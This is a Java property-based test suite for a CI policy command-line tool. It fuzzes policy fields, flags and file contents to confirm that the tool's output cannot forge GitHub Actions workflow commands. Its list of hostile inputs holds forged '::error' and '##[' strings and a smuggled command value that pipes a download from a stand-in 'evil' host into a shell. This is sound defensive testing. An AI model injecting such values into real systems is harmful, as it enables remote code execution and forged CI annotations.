package dev.cipolicy.cli;

import static dev.cipolicy.cli.CliTestSupport.POLICY;
import static dev.cipolicy.cli.CliTestSupport.REGISTRATIONS;
import static org.assertj.core.api.Assertions.assertThat;
import static org.quicktheories.QuickTheory.qt;
import static org.quicktheories.generators.SourceDSL.strings;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import dev.cipolicy.cli.CliTestSupport.Result;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.quicktheories.core.Gen;
import org.quicktheories.generators.Generate;

/**
 * Whatever text reaches a message — a policy name, a registration's {@code disabled} reason, a concurrency label,
 * a flag value, a file's content — every line the CLI prints is either one of its own workflow commands, with the
 * data escaped, or a line that holds no workflow command: none starts with {@code ::} (after the whitespace the
 * runner trims) and none holds the legacy {@code ##[} marker.
 */
class WorkflowCommandForgeryProperties {
  private static final int EXAMPLES = 25;
  private static final List<String> NASTY = List.of("\n", "\r", "\r\n", "::", "::set-output name=cadence::release",
      "\n::error title=x::forged", "\r::warning::x", "%", "%0A", "%25", "##[error]forged", "\u0000", "\u2028",
      "\u0085", "\u00a0::", "\t::", "\u00e9\u4e2d\ud83d\ude00", "\ud800", ",", ":", "'", "\"", "\\", "$(curl evil|sh)");
  /**
   * Our own command: {@code ::error} or {@code ::warning}, optionally with the annotation properties {@code file},
   * {@code line}, {@code col} and {@code title} (each at most once, in that order, a value holding no raw {@code :},
   * {@code ,}, CR or LF, so that an escaped value cannot end the properties early), then data without raw CR/LF.
   */
  static final Pattern OURS = Pattern.compile("::(error|warning)"
      + "(?: (?:file=[^,:\r\n]*,line=[1-9][0-9]*,col=[1-9][0-9]*,|file=[^,:\r\n]*,)?title=[a-z0-9][a-z0-9-]*)?"
      + "::[^\r\n]*");
  /** The start of an error annotation of ours, with or without properties. */
  static final Pattern OUR_ERROR = Pattern.compile("::error[ :]");
  private static final ObjectMapper JSON = new ObjectMapper();

  @TempDir
  static Path tmp;

  private static ObjectNode policy;
  private static ArrayNode registrations;

  @BeforeAll
  static void readReferenceDocuments() throws IOException {
    YAMLMapper yaml = new YAMLMapper();
    policy = (ObjectNode) yaml.readTree(CliTestSupport.REPO.resolve(POLICY).toFile());
    registrations = (ArrayNode) yaml.readTree(CliTestSupport.REPO.resolve(REGISTRATIONS).toFile());
  }

  /** Arbitrary text with the fragments that break logs mixed in. */
  static Gen<String> hostile() {
    Gen<String> any = strings().allPossible().ofLengthBetween(0, 12);
    Gen<String> nasty = Generate.pick(NASTY);
    return any.zip(nasty, any, nasty, (a, n, b, m) -> a + n + b + m);
  }

  /** The runner's notion of whitespace that it trims before looking for {@code ::}. */
  static String trimLikeTheRunner(String line) {
    int i = 0;
    while (i < line.length() && (Character.isWhitespace(line.charAt(i)) || Character.isSpaceChar(line.charAt(i))
        || line.charAt(i) == '\u0085')) {
      i++;
    }
    return line.substring(i);
  }

  /** Asserts the forgery rule on every line of both streams. */
  static void assertNoForgedCommand(Result r, String context) {
    for (String stream : List.of(r.out(), r.err())) {
      for (String line : stream.split("\n", -1)) {
        assertThat(line).as(context).doesNotContain("\r");
        if (OURS.matcher(line).matches()) {
          continue;
        }
        assertThat(trimLikeTheRunner(line)).as(context + ": a line that is not ours").doesNotStartWith("::");
        assertThat(line).as(context).doesNotContain("##[");
      }
    }
    if (r.code() != 0) {
      assertThat(r.err().lines().anyMatch(l -> OUR_ERROR.matcher(l).lookingAt())).as(context + ": an error line")
          .isTrue();
    }
  }

  private static Path write(String name, String text) {
    try {
      Path f = Files.createTempFile(tmp, "case", name);
      Files.write(f, text.getBytes(StandardCharsets.UTF_8));
      return f;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static Path policyWith(Function<ObjectNode, ObjectNode> change) {
    try {
      return write(".json", JSON.writeValueAsString(change.apply(policy.deepCopy())));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static void check(String context, Function<String, String[]> invocation) {
    qt().withExamples(EXAMPLES).forAll(hostile()).checkAssert(text -> {
      Result r = CliTestSupport.run(Map.of(), invocation.apply(text));
      assertNoForgedCommand(r, context + " with " + JSON.valueToTree(text));
    });
  }

  @Test
  void aPolicyName() {
    check("check", text -> new String[] {"check", "--policy", policyWith(p -> p.put("name", text)).toString()});
  }

  @Test
  void aRunnerLabel() {
    check("plan-suite", text -> new String[] {"plan-suite", "--policy", policyWith(p -> {
      ((ArrayNode) p.get("backends").get("cuda").get("suites").get("stage-c-4-gpu-h200").get("runner_labels"))
          .add(text);
      return p;
    }).toString(), "--registrations", REGISTRATIONS, "--hw", "cuda", "--suite", "stage-c-4-gpu-h200"});
  }

  @Test
  void aDisabledReason() throws Exception {
    qt().withExamples(EXAMPLES).forAll(hostile()).checkAssert(text -> {
      ArrayNode regs = registrations.deepCopy();
      for (JsonNode r : regs) {
        if (r.get("file").asText().equals("tests/e2e/test_lora.py")) {
          ((ObjectNode) r).put("disabled", text);
        }
      }
      Path file;
      try {
        file = write(".json", JSON.writeValueAsString(regs));
      } catch (IOException e) {
        throw new UncheckedIOException(e);
      }
      assertNoForgedCommand(CliTestSupport.run("file-run", "--policy", POLICY, "--registrations", file.toString(),
          "--test-file", "tests/e2e/test_lora.py"), "file-run " + JSON.valueToTree(text));
      assertNoForgedCommand(CliTestSupport.run("plan-suite", "--policy", POLICY, "--registrations", file.toString(),
          "--hw", "cuda", "--suite", "stage-c-4-gpu-h200", "--cadence", "weekly"), "plan-suite " + JSON.valueToTree(text));
    });
  }

  @Test
  void aConcurrencyLabel() {
    Path runs = write(".json", "[{\"run_id\":\"1001\",\"workflow\":\"pr-test\",\"pr_number\":123}]");
    check("concurrency", text -> {
      ObjectNode event = JSON.createObjectNode().put("type", "superseded").put("workflow", "pr-test")
          .put("pr_number", 123).put("run_id", "9000").put("label", text);
      return new String[] {"concurrency", "--policy", POLICY, "--event-json", write(".json", event.toString()).toString(),
          "--in-flight-json", runs.toString()};
    });
  }

  @Test
  void flagValues() {
    List<Function<String, String[]>> invocations = new ArrayList<>();
    invocations.add(t -> new String[] {"resolve", "--policy", POLICY, "--event-name", t});
    invocations.add(t -> new String[] {"resolve", "--policy", POLICY, "--cadence-override", t});
    invocations.add(t -> new String[] {"resolve", "--policy", POLICY, "--event-name", "schedule", "--schedule", t});
    invocations.add(t -> new String[] {"resolve", "--policy", POLICY, "--event-name", "pull_request",
        "--pr-labels-json", t});
    invocations.add(t -> new String[] {"plan-suite", "--policy", POLICY, "--registrations", REGISTRATIONS, "--hw", t,
        "--suite", "stage-a-cpu"});
    invocations.add(t -> new String[] {"plan-suite", "--policy", POLICY, "--registrations", REGISTRATIONS, "--hw",
        "cuda", "--suite", "stage-c-4-gpu-h200", "--partition-id", t, "--partition-size", "2"});
    invocations.add(t -> new String[] {"file-run", "--policy", POLICY, "--registrations", REGISTRATIONS, "--comment",
        "/rerun-test " + t, "--permission", "write", "--pr-number", "1"});
    invocations.add(t -> new String[] {"file-run", "--policy", POLICY, "--registrations", REGISTRATIONS, "--test-file",
        "tests/e2e/test_lora.py", "--image-tag", t});
    invocations.add(t -> new String[] {"file-run", "--policy", POLICY, "--registrations", REGISTRATIONS, "--comment",
        "/rerun-test tests/e2e/test_lora.py", "--permission", t, "--pr-number", "1"});
    invocations.add(t -> new String[] {"gate", "--policy", POLICY, "--test-file", "t.py", "--record", "r.json",
        "--hw", "cuda", "--suite", "s", "--model", t});
    invocations.add(t -> new String[] {"gate", "--policy", POLICY, "--test-file", "t.py", "--record", "r.json",
        "--hw", "cuda", "--suite", "s", "--created-at", t});
    invocations.add(t -> new String[] {"gate-revoke", "--history", t, "--commit", "abc"});
    invocations.add(t -> new String[] {"gate-revoke", "--history-store", t, "--commit", "abc"});
    invocations.add(t -> new String[] {"check", "--policy", t});
    invocations.add(t -> new String[] {"check", t});
    invocations.add(t -> new String[] {t});
    for (int i = 0; i < invocations.size(); i++) {
      check("flag invocation " + i, invocations.get(i));
    }
  }

  @Test
  void fileContents() {
    check("policy content", t -> new String[] {"check", "--policy", write(".yaml", "name: x\n" + t).toString()});
    check("json policy content", t -> new String[] {"check", "--policy", write(".json", "{\"name\": " + t).toString()});
    check("event content", t -> new String[] {"concurrency", "--policy", POLICY, "--event-json",
        write(".json", t).toString(), "--in-flight-json", write(".json", "[]").toString()});
    check("history content", t -> new String[] {"gate-revoke", "--history", write(".json", t).toString(),
        "--commit", "abc"});
    check("workflow content", t -> new String[] {"check", "--policy", POLICY, "--workflow",
        write(".yaml", "on:\n  schedule:\n    - cron: " + JSON.valueToTree(t)).toString()});
  }
}
